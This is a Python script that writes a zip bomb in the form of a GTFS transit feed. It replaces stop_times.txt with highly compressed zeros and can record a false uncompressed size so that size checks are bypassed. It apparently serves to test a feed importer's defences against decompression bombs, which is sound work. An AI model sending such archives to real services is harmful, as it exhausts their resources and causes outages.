"""Writes a zip bomb: the GTFS feed in FOLDER with its stop_times.txt replaced by MEGABYTES MiB of zeros.

usage: zip-bomb.py ARCHIVE MEGABYTES DECLARED FOLDER
DECLARED is the size the headers record for stop_times.txt: "honest", a number of bytes, or "ratio:N" for N times
the compressed size (a lying header that passes a check of the recorded sizes alone).
The DEFLATE data is one full-flushed block of 1 MiB of zeros repeated, so even 1.5 GB takes well under a second
and never passes through memory; the archive is about 1/1000 of the size it inflates to.
"""
import os, struct, sys, zlib

path, megabytes, declared, folder = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
mib = bytes(1 << 20)
compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
first = compressor.compress(mib) + compressor.flush(zlib.Z_FULL_FLUSH)
block = compressor.compress(mib) + compressor.flush(zlib.Z_FULL_FLUSH)
assert block == compressor.compress(mib) + compressor.flush(zlib.Z_FULL_FLUSH)
data = first + block * (megabytes - 1) + compressor.flush()
crc = 0
for _ in range(megabytes):
    crc = zlib.crc32(mib, crc)
size = megabytes << 20
if declared == "honest":
    recorded = size
elif declared.startswith("ratio:"):
    recorded = len(data) * int(declared[6:])
else:
    recorded = int(declared)

out, central, count = bytearray(), bytearray(), 0
def add(name, stored, method, member_crc, member_size):
    global count
    name = name.encode()
    offset = len(out)
    out.extend(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, member_crc, len(stored), member_size,
                           len(name), 0) + name + stored)
    central.extend(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0, member_crc, len(stored),
                               member_size, len(name), 0, 0, 0, 0, 0, offset) + name)
    count += 1

for name in sorted(os.listdir(folder)):
    if name.endswith(".txt") and name != "stop_times.txt":
        text = open(os.path.join(folder, name), "rb").read()
        add(name, text, 0, zlib.crc32(text), len(text))
add("stop_times.txt", data, 8, crc, recorded)
start = len(out)
out.extend(central)
out.extend(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), start, 0))
with open(path, "wb") as f:
    f.write(out)
